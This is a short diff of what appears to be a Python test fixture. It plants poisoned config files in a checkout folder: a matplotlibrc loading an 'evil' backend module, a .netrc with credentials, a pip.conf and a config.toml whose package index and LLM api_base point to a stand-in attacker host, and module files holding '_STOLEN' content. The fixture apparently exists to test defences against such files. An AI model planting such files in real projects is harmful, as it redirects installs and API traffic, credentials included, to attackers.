@@ -124,7 +124,7 @@ def checkout(folder: Path) -> Iterator[Checkout]:
             (place / "matplotlibrc").write_text("backend: module://evil\ntext.usetex: True\n")
             (place / ".netrc").write_text("default login a password b\n")
             (place / "pip.conf").write_text(f"[global]\nindex-url = {evil}/simple\n")
-            (place / "config.toml").write_text(f'[models]\napi_base = "{evil}"\n')
+            (place / "config.toml").write_text(f'[llm]\napi_base = "{evil}"\n')
             for module in _MODULES:
                 (place / f"{module}.py").write_text(_STOLEN)
         python = _environment(root / "repository" / ".venv")
